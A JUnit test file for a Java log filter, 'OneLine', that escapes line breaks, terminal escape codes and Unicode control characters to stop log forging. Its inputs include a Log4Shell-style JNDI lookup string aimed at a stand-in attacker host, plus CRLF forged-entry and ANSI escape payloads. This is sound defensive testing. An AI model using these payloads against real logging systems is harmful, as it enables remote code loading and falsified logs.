package io.rollcall.servicekit.log;

import java.io.PrintWriter;
import java.io.StringWriter;

import org.jboss.logmanager.ExtLogRecord;
import org.jboss.logmanager.ExtLogRecord.FormatStyle;
import org.jboss.logmanager.Level;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

class OneLineTest {

    @Test
    void ordinaryTextStaysTheSame() {
        String text = "Förde Straße 東京 ${jndi:ldap://attacker.example/x} 100%";

        assertThat(OneLine.of(text)).isSameAs(text);
        assertThat(OneLine.of(null)).isNull();
    }

    @Test
    void aValueCannotForgeALineOrSteerATerminal() {
        assertThat(OneLine.of("eve\r\n2026-11-28 ERROR forged\u001B[2J\u009B31m\u2028x\u202Ey"))
                .isEqualTo("eve\\u000d\\n2026-11-28 ERROR forged\\u001b[2J\\u009b31m\\u2028x\\u202ey");
    }

    @Test
    void aLongMessageIsCut() {
        assertThat(OneLine.of("x".repeat(1_000_000)))
                .hasSizeLessThan(OneLine.LONGEST + 40)
                .endsWith("... (991808 more)");
    }

    @Test
    void parametersAreCoveredToo() {
        ExtLogRecord record = new ExtLogRecord(Level.INFO, "%s listed %d", FormatStyle.PRINTF, "test");
        record.setParameters(new Object[] {"eve\nERROR", 3});

        assertThat(new OneLine().isLoggable(record)).isTrue();
        assertThat(record.getFormattedMessage()).isEqualTo("eve\\nERROR listed 3");
    }

    @Test
    void messagesOfExceptionsAreCoveredAndTheirStacksAreKept() {
        Exception cause = new IllegalStateException("inner\nERROR forged");
        ExtLogRecord record = new ExtLogRecord(Level.ERROR, "failed", "test");
        record.setThrown(new RuntimeException("outer", cause));

        new OneLine().isLoggable(record);

        StringWriter text = new StringWriter();
        record.getThrown().printStackTrace(new PrintWriter(text, true));
        assertThat(text.toString())
                .contains(
                        "java.lang.RuntimeException: outer",
                        "inner\\nERROR forged",
                        "at " + getClass().getName())
                .doesNotContain("\nERROR");
    }

    @Test
    void messagesOfSuppressedExceptionsAreCoveredAtEveryDepth() {
        Exception suppressed = new IllegalStateException("close failed", new Exception("deep\nERROR forged"));
        Exception cause = new Exception("cause");
        cause.addSuppressed(suppressed);
        Exception thrown = new RuntimeException("outer", cause);
        thrown.addSuppressed(new Exception("other\u2028ERROR forged"));

        assertThat(written(thrown))
                .contains("Suppressed: java.lang.IllegalStateException: close failed")
                .contains("deep\\nERROR forged", "other\\u2028ERROR forged")
                .doesNotContain("\nERROR", "\u2028");
    }

    @Test
    void ofTooManyCausesTheFirstAreWritten() {
        Exception thrown = new Exception("innermost\nERROR forged");
        for (int i = 0; i < 1000; i++) {
            thrown = new Exception("cause " + i, thrown);
        }

        assertThat(written(thrown)).contains("cause 999", "cause 950").doesNotContain("cause 100", "innermost");
    }

    @Test
    void harmlessExceptionsStayTheSame() {
        Exception thrown = new Exception("outer", new Exception("inner"));
        thrown.addSuppressed(new Exception("suppressed"));
        ExtLogRecord record = new ExtLogRecord(Level.ERROR, "failed", "test");
        record.setThrown(thrown);

        new OneLine().isLoggable(record);

        assertThat(record.getThrown()).isSameAs(thrown);
    }

    private static String written(Exception thrown) {
        ExtLogRecord record = new ExtLogRecord(Level.ERROR, "failed", "test");
        record.setThrown(thrown);
        new OneLine().isLoggable(record);
        StringWriter text = new StringWriter();
        record.getThrown().printStackTrace(new PrintWriter(text, true));
        return text.toString();
    }

    @Test
    void anExceptionThatIsItsOwnCauseIsWritten() {
        Exception first = new Exception("a\nb");
        Exception second = new Exception("second", first);
        first.initCause(second);
        ExtLogRecord record = new ExtLogRecord(Level.ERROR, "failed", "test");
        record.setThrown(first);

        assertThat(new OneLine().isLoggable(record)).isTrue();
        assertThat(record.getThrown().toString()).isEqualTo("java.lang.Exception: a\\nb");
    }
}
